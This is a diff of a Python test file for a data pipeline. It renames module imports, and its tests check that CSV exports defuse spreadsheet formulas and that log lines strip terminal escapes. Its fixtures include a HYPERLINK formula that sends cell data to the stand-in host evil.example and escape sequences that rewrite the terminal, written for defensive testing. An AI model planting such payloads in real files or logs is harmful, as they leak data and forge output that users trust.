@@ -13,12 +13,14 @@ import pyarrow.parquet
 import pytest
 from rich.console import Console
 
-from commands.output import show_error, table, tell_bad_rows
-from pipeline import logs, screen, standings
-from pipeline.alerts import Alert, Followed
+from commands.terminal import show_error, table, tell_bad_rows
+from pipeline.batch import customer_table
 from pipeline.files import BadRow
 from pipeline.files.spreadsheet import FORMULA_STARTS, write_csv
-from pipeline.printable import printable, printable_lines
+from pipeline.operations import screen
+from pipeline.operations.follow_alerts import Alert, Followed
+from pipeline.runtime import logging_setup
+from pipeline.runtime.printable import printable, printable_lines
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 PAINT = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"  # sets the title, clears the screen, turns the text round
@@ -47,10 +49,10 @@ def test_other_texts_are_written_as_they_are(tmp_path: Path) -> None:
 
 def test_the_list_of_scored_customers_runs_nothing(tmp_path: Path) -> None:
     rows = pa.table({"customer": [LINK], "score": [0.5], "reasons": ["+SUM(A1) | -1"]})
-    standings.write(rows, tmp_path / "scores.csv")
+    customer_table.write(rows, tmp_path / "scores.csv")
     assert (tmp_path / "scores.csv").read_text().splitlines()[1].startswith("\"'=HYPERLINK(")
     assert '"\'+SUM(A1) | -1"' in (tmp_path / "scores.csv").read_text()
-    standings.write(rows, tmp_path / "scores.parquet")
+    customer_table.write(rows, tmp_path / "scores.parquet")
     assert pa.parquet.read_table(tmp_path / "scores.parquet").equals(rows), "for programs it is what it was"
 
 
@@ -102,12 +104,12 @@ def test_no_event_forges_a_line_of_the_log() -> None:
     record = logging.LogRecord(
         "x", logging.WARNING, "f", 1, "dead letter %s", (f"e\n2026 ERROR {PAINT}",), None
     )
-    line = logs.PlainLines(logs.TEXT).format(record)
+    line = logging_setup.PlainLines(logging_setup.TEXT).format(record)
     assert "\n" not in line and "\x1b" not in line
     try:
         raise ValueError(PAINT)
     except ValueError:
         record.exc_info = sys.exc_info()
-    lines = logs.PlainLines(logs.TEXT).format(record)
+    lines = logging_setup.PlainLines(logging_setup.TEXT).format(record)
     assert lines.count("\n") > 1 and "\x1b" not in lines, "a traceback keeps its lines"
-    assert "\x9b" not in logs.JsonLines().format(record)
+    assert "\x9b" not in logging_setup.JsonLines().format(record)
